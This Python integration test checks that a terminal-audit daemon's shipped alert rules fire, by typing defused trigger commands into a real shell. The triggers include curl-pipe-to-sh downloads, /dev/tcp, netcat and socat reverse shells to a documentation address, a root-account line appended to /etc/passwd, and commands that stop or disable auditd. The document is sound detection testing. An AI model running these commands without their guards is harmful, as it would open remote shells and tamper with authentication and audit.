#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The shipped alert rules, each triggered from a real pty under the real
ttyauditd: the alert record is read back from the signed log (and the log
verifies), and — when this test may start its own auditd (no other auditd
registered with the kernel) — the op=ttyaudit-alert record is found in that
auditd's log. Also: a bad rules file stops the daemon at start with
FILE:LINE: KEY, and a bad one on SIGHUP keeps the running rules.

Every trigger is harmless: typed lines that the shell never runs (`false &&`),
commands that fail before acting (as nobody, on files that do not exist), or
that act on nothing (`tee -a` with no input, `pkill -0`, `systemctl --version`).

usage: alerts_test.py RULES_CONF LOG_ALERTS   (TA_BUILD_DIR set; root)"""

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from capturelib import Daemon, Failures, binary, drive_shell  # noqa: E402
from auditdlib import Auditd, wait_until  # noqa: E402

NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def skip(why):
    print(f"SKIPPED: {why}")
    sys.exit(77)


def log_alerts(tool, log_dir):
    p = subprocess.run([tool, log_dir], capture_output=True, text=True)
    if p.returncode != 0:
        raise RuntimeError(f"log_alerts: {p.stderr}")
    return [json.loads(line) for line in p.stdout.splitlines() if line.strip()]


def triggers(log_dir):
    """(rule, line typed into an interactive bash)."""
    missing = os.path.join(log_dir, "no-such-segment")
    return [
        ("privilege-escalation", "su root -c true"),
        ("auth-files-edited", "tee -a /etc/passwd < /dev/null"),
        ("auth-files-sed-in-place", " ".join(NOBODY) + " sed -i s/x/x/ /etc/passwd"),
        ("auth-files-redirect", "false && echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
        # opened for appending, nothing written: only the footprint sees it
        ("auth-files-written", "python3 -c \"open('/etc/shadow', 'a').close()\""),
        ("audit-stopped", "systemctl --version stop auditd > /dev/null"),
        ("audit-killed", "pkill -0 -x auditd"),
        ("audit-rules-disabled", " ".join(NOBODY) + " auditctl -e 0"),
        ("download-to-shell", "false && curl -fsSL http://192.0.2.1/i.sh | sh"),
        # typed in two writes with a pause: two input events split inside the match
        ("reverse-shell-dev-tcp", ("false && bash -i >& /dev/tc", "p/192.0.2.1/4444 0>&1")),
        ("reverse-shell-netcat", "false && nc -e /bin/sh 192.0.2.1 4444"),
        ("reverse-shell-socat", "false && socat tcp:192.0.2.1:4444 exec:/bin/sh"),
        ("log-append-only-cleared", f"chattr -a {missing}"),
        ("log-removed", f"rm -f {missing}"),
    ]


def shipped_rules(path):
    names = []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if s.startswith("rule") and "=" in s and s.split("=", 1)[0].strip() == "rule":
                names.append(s.split("=", 1)[1].strip())
    return names


def main():
    if os.geteuid() != 0:
        skip("needs root (BPF, auditd)")
    for tool in ("setpriv", "su", "bash", "chattr", "pkill", "systemctl"):
        if not shutil.which(tool):
            skip(f"{tool} is not installed")
    rules_src, tool = sys.argv[1], sys.argv[2]
    f = Failures("alerts-shipped-rules")
    t = tempfile.mkdtemp(prefix="ta-alerts-")
    os.chmod(t, 0o755)
    rules = os.path.join(t, "rules.conf")
    shutil.copy(rules_src, rules)
    os.chmod(rules, 0o644)
    alerts_jsonl = os.path.join(t, "alerts.jsonl")
    auditd = Auditd(t)
    d = None
    try:
        # A bad rules file: the daemon does not start, and says where.
        bad = os.path.join(t, "bad.conf")
        with open(bad, "w") as fh:
            fh.write("rule = x\non = exec\nargv = (unclosed\n")
        p = subprocess.run([binary("agent/daemon/ttyauditd"), "--foreground", "--rules-file", bad,
                            "--log-dir", os.path.join(t, "badlog"),
                            "--login-socket", os.path.join(t, "bad.sock")],
                           capture_output=True, text=True, timeout=60)
        f.check(p.returncode == 3 and f"{bad}:3: argv: bad regular expression" in p.stderr,
                f"a bad rules file stops the daemon with exit 3 and FILE:LINE: KEY "
                f"({p.returncode}: {p.stderr.strip()[-300:]})")
        f.check(not os.path.exists(os.path.join(t, "badlog")),
                "a bad rules file stops the daemon before it touches the log")

        d = Daemon("--rules-file", rules, "--alerts-jsonl", alerts_jsonl)
        why = auditd.start(binary("agent/audisp/audisp-ttyaudit"), os.path.join(d.dir, "login.sock"))
        if why:
            print(f"audit records and watches not checked: {why}")
        d.start()
        if not why:
            # Watch the watchers: the daemon's files are watched while it runs.
            # installed just after agent_start is written
            def listed():
                return subprocess.run(["auditctl", "-l"], capture_output=True, text=True).stdout
            f.check(wait_until(lambda: any(d.log_dir in line and "ttyaudit-watch" in line
                                           for line in listed().splitlines()), 60),
                    f"audit watch on the log directory with key ttyaudit-watch ({listed()})")
            seg = next((os.path.join(d.log_dir, n) for n in sorted(os.listdir(d.log_dir))
                        if os.path.isfile(os.path.join(d.log_dir, n))), None)
            subprocess.run(["cat", seg], stdout=subprocess.DEVNULL)
            f.check(wait_until(lambda: any(r.get("type") == "alert" and
                                           r.get("rule") == "ttyaudit-watch" and
                                           seg in r.get("subject", "")
                                           for r in d.records(quiet=True)), 60),
                    f"reading {seg} is an alert of the daemon (via auditd and the plugin)")
        trig = triggers(d.log_dir)
        f.check(sorted(r for r, _ in trig) == sorted(shipped_rules(rules_src)),
                "every shipped rule has a trigger here")
        lines = []
        for _, line in trig:
            parts = line if isinstance(line, tuple) else (line,)
            lines += [p.encode() for p in parts[:-1]] + [(parts[-1] + "\r").encode()]
        drive_shell(["bash", "--norc", "--noprofile", "-i"], lines + [b"exit\r"],
                    env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb",
                         "HOME": t}, settle=0.4)
        # The delivery thread holds no capability the daemon dropped.
        caps = {}
        for tid in os.listdir(f"/proc/{d.proc.pid}/task"):
            with open(f"/proc/{d.proc.pid}/task/{tid}/status") as st:
                caps[tid] = next(x.split()[1] for x in st if x.startswith("CapEff:"))
        f.check(len(caps) >= 2 and len(set(caps.values())) == 1,
                f"every thread of the daemon has the same capabilities ({caps})")
        # A bad rules file on SIGHUP: the running rules stay.
        with open(rules, "a") as fh:
            fh.write("\nrule = broken\non = input\n")
        d.proc.send_signal(signal.SIGHUP)
        wait_until(lambda: "reload refused" in d.stderr(), 30)
        f.check(f"{rules}:" in d.stderr() and "reload refused" in d.stderr(),
                "a bad rules file on reload is refused with FILE:LINE")
        drive_shell(["bash", "--norc", "--noprofile", "-i"],
                    [b"false && curl http://192.0.2.2/x | bash\r", b"exit\r"],
                    env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb", "HOME": t},
                    settle=0.4)
        d.stop()

        alerts = log_alerts(tool, d.log_dir)
        by_rule = {}
        for a in alerts:
            by_rule.setdefault(a.get("rule"), []).append(a)
        for rule, line in trig:
            got = by_rule.get(rule, [])
            f.check(len(got) >= 1, f"alert record for {rule} in the log (typed: {line})")
            if got:
                a = got[0]
                f.check(a.get("type") == "alert" and a.get("tty", "").startswith("pts") and
                        a.get("subject"), f"{rule}: record has type, terminal and subject ({a})")
        f.check(len(by_rule.get("download-to-shell", [])) >= 2,
                "rules kept after the refused reload still fire")
        v = subprocess.run([binary("agent/cli/ttyaudit"), "verify", "--log-dir", d.log_dir],
                           capture_output=True, text=True)
        f.check(v.returncode == 0, f"the log with its alert records verifies ({v.stdout.strip()})")
        try:
            copies = [json.loads(x) for x in open(alerts_jsonl)]
        except (OSError, ValueError):
            copies = []
        f.check({c.get("rule") for c in copies} == {a.get("rule") for a in alerts},
                "the alerts JSON Lines file has the same alerts as the log")

        if not why:
            ok = wait_until(lambda: all(auditd.records(f'rule="{r}"') for r, _ in trig), 60)
            for rule, _ in trig:
                recs = [x for x in auditd.records(f'rule="{rule}"') if "op=ttyaudit-alert" in x]
                f.check(len(recs) >= 1, f"audit record op=ttyaudit-alert rule={rule} in auditd's log")
            f.check(ok, "all audit records arrived")
            f.check(any(a.get("rule") == "ttyaudit-watch" and a.get("on") == "watch" and
                        "cat" in a.get("subject", "") for a in alerts),
                    "the read of the log is an alert record in the log, with the program")
            rules_after = subprocess.run(["auditctl", "-l"], capture_output=True, text=True).stdout
            f.check(d.log_dir not in rules_after,
                    f"the watches are removed at stop ({rules_after.strip()})")
    finally:
        if d and d.proc and d.proc.poll() is None:
            d.proc.kill()
            d.proc.wait()
        auditd.stop()
        if f.failed and d:
            print("--- ttyauditd\n" + d.stderr()[-3000:])
        for path in (t, d.dir if d else None):
            if path:
                subprocess.run(["chattr", "-R", "-a", path], capture_output=True)
                shutil.rmtree(path, ignore_errors=True)
    return f.result()


if __name__ == "__main__":
    sys.exit(main())
